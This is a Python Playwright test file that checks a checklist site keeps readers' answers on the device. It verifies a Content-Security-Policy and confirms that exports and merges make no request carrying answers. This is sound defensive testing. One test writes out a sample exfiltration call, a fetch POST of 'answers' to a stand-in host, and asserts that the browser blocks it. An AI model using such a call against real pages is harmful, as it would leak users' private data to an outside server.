"""Proof that answers stay on the device: the pages where readers type answers carry a Content-Security-Policy
that lets them connect to the site itself only, the site still works under it (the theme, Pagefind's search),
and filling in, merging, planning and exporting make no request that carries an answer."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from guidebook.model import KnowledgeBase

from .assessment_sites import answer, download, item_ids, member_files, open_checklist, plan_overdue
from .site_pages import knowledge_base, open_search, published_url

ANSWER_PAGES = ["checklists/", "checklists/action-plan/", "checklists/progress/"]
NOTE = "Secret note 7f3a: the audit found gaps"
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
"""


@pytest.fixture
def site(any_site: tuple[str, Path], serve: Callable[[Path], str]) -> tuple[KnowledgeBase, str, Path]:
    name, path = any_site
    return knowledge_base(name), published_url(serve, path), path


def answer_pages(kb: KnowledgeBase) -> list[str]:
    return [f"facets/{facet.id}/checklist/" for facet in kb.facets] + ANSWER_PAGES


def test_answer_pages_carry_the_policy_and_say_where_answers_are_kept(site: tuple[KnowledgeBase, str, Path]) -> None:
    kb, _, built = site
    for path in answer_pages(kb):
        html = (built / path / "index.html").read_text(encoding="utf-8")
        head = html[html.index("<head") : html.index("</head>")]
        policy = re.search(r'^<head[^>]*><meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
        assert policy, f"{path}: the policy is not the first element of the head"
        directives = dict(d.strip().split(" ", 1) for d in policy.group(1).split(";"))
        assert directives["connect-src"] == "'self'" and directives["default-src"] == "'self'"
        assert "'unsafe-inline'" not in directives["script-src"]
        assert re.search(r"kept in this browser only|saved in this browser only", html), path
    # Pages without answers stay as they are.
    assert "Content-Security-Policy" not in (built / "index.html").read_text(encoding="utf-8")


def test_the_site_works_under_the_policy_and_blocks_other_hosts(
    site: tuple[KnowledgeBase, str, Path], browser: Browser
) -> None:
    kb, base, _ = site
    context = browser.new_context()
    context.add_init_script(WATCH_VIOLATIONS)
    errors: list[str] = []
    try:
        for path in answer_pages(kb)[:1] + ANSWER_PAGES:
            page = context.new_page()
            page.on("pageerror", lambda error: errors.append(str(error)))
            page.goto(base + path)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.__violations") == [], path
            page.close()
        # Search (Pagefind's WebAssembly engine and worker, fetched from the site) works on a checklist page.
        page = context.new_page()
        page.goto(base + answer_pages(kb)[0])
        open_search(page, kb)
        assert page.evaluate("window.__violations") == []
        # A script that tried to send answers to another host is stopped by the browser.
        outcome = page.evaluate(
            "() => fetch('http://127.0.0.2:9/collect', {method: 'POST', body: 'answers'}).then(() => 'sent', () => 'blocked')"
        )
        assert outcome == "blocked"
        assert any(v.startswith("connect-src") for v in page.evaluate("window.__violations"))
    finally:
        context.close()
    assert errors == []


def test_filling_in_merging_planning_and_exporting_send_no_answer(
    site: tuple[KnowledgeBase, str, Path], browser: Browser
) -> None:
    kb, base, _ = site
    origin = urlsplit(base).netloc
    requests: list[Request] = []
    context = browser.new_context()
    context.on("request", lambda request: requests.append(request))
    page: Page = context.new_page()
    try:
        facet = next(f for f in kb.facets if len(item_ids(f)) >= 3)
        open_checklist(page, base, facet)
        answer(page, item_ids(facet)[0], "In progress", NOTE)
        export = json.loads(download(page, "Export answers (JSON)").read_text(encoding="utf-8"))
        assert NOTE in json.dumps(export)
        download(page, "Export for a spreadsheet (CSV)")
        page.goto(base + "checklists/")
        team = page.locator(".gb-team")
        expect(team).to_be_visible()
        team.locator("input[type=file][multiple]").set_input_files(member_files(kb)[0])  # type: ignore[arg-type]
        expect(team.locator("tr.gb-disagree").first).to_be_visible()
        download(page, "Export the settled assessment (JSON)")
        download(page, "Export the settled assessment (CSV)")
        page.goto(base + "checklists/action-plan/")
        plan_overdue(page, kb)
        download(page, "Export the plan (CSV)")
        download(page, "Export the plan (Markdown)")
        page.goto(base + "checklists/progress/")
        page.get_by_role("button", name="Save a snapshot of the current answers").click()
        page.wait_for_load_state("networkidle")
    finally:
        context.close()
    secrets = [NOTE, "Signed off in May", "Anna", "minutes"]
    carrying = [
        f"{r.method} {r.url}"
        for r in requests
        if r.method != "GET" or any(s in r.url or s in (r.post_data or "") for s in secrets)
    ]
    elsewhere = [
        r.url for r in requests if urlsplit(r.url).scheme not in ("blob", "data") and urlsplit(r.url).netloc != origin
    ]
    assert carrying == [] and elsewhere == [], (carrying, elsewhere)
    assert requests, "no request was recorded at all"
